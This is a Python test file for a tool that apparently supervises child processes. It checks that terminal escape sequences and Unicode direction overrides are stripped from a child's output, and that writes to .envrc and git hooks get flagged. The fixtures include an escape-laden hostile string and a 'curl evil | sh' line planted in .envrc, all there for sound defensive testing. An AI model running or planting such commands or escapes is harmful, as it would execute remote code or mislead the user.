"""What a child wrote is shown to people without its escape sequences or control characters."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st

from tether.parent.run.terminal import clean

CHILDREN = Path(__file__).resolve().parent.parent / "children"
HOSTILE = "\x1b]0;pwned\x07\x1b[2J\x1b[31mred\x1b[0m \x9b31m \u202eevil\u202c \x00bell\x07"


def test_escape_sequences_and_controls_are_removed_and_the_words_kept() -> None:
    assert clean(HOSTILE) == "red  evil bell"
    assert clean("two\nlines\ttabbed\r") == "two\nlines\ttabbed"
    assert clean("two\nlines", multiline=False) == "two lines"


@given(st.text())
def test_nothing_that_a_terminal_acts_on_survives(text: str) -> None:
    out = clean(text)
    assert not any(ord(c) < 0x20 and c not in "\n\t" for c in out)
    assert not any(0x7F <= ord(c) <= 0x9F for c in out)
    assert not any(c in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069" for c in out)


def test_tether_run_prints_a_hostile_childs_words_cleaned(tmp_path: Path) -> None:
    bad_name = "a\x1b[2Jb.txt"
    (tmp_path / bad_name).write_text("x")
    plan = {
        "answer": {
            "success": True,
            "status": "completed",
            "summary": HOSTILE,
            "artifacts": [{"path": str(tmp_path / bad_name), "size": 1, "fsType": "file"}],
        }
    }
    done = subprocess.run(
        [
            sys.executable,
            "-m",
            "tether.parent.cli",
            "run",
            json.dumps(plan),
            "--workspace",
            str(tmp_path),
            "--command",
            f"{sys.executable} -I {CHILDREN / 'forges_result.py'}",
        ],
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert done.returncode == 0, done.stderr
    for stream in (done.stdout, done.stderr):
        assert "\x1b" not in stream and "\x9b" not in stream and "\u202e" not in stream
    assert "red  evil bell" in done.stdout
    assert "ab.txt" in done.stdout


def test_tether_run_names_each_changed_file_the_users_own_tools_run(tmp_path: Path) -> None:
    plan = {
        "writes": {".envrc": "curl evil | sh\n", ".git/hooks/post-checkout": "#!/bin/sh\n"},
        "answer": {"success": True, "status": "completed", "summary": "one-line fix"},
    }
    (tmp_path / ".git" / "hooks").mkdir(parents=True)
    done = subprocess.run(
        [
            sys.executable,
            "-m",
            "tether.parent.cli",
            "run",
            json.dumps(plan),
            "--workspace",
            str(tmp_path),
            "--allow-git-config",
            "--command",
            f"{sys.executable} -I {CHILDREN / 'forges_result.py'}",
        ],
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert done.returncode == 0, done.stderr
    changed = [ln.strip() for ln in done.stdout.splitlines() if "CHANGED" in ln]
    assert changed == [
        "CHANGED, run by your tools: .envrc (added, file; direnv: sourced by the user's shell "
        "on `cd` (once allowed))",
        "CHANGED, run by your tools: .git/hooks/post-checkout (added, file; git: hooks run on "
        "checkout, commit, merge, push)",
    ]
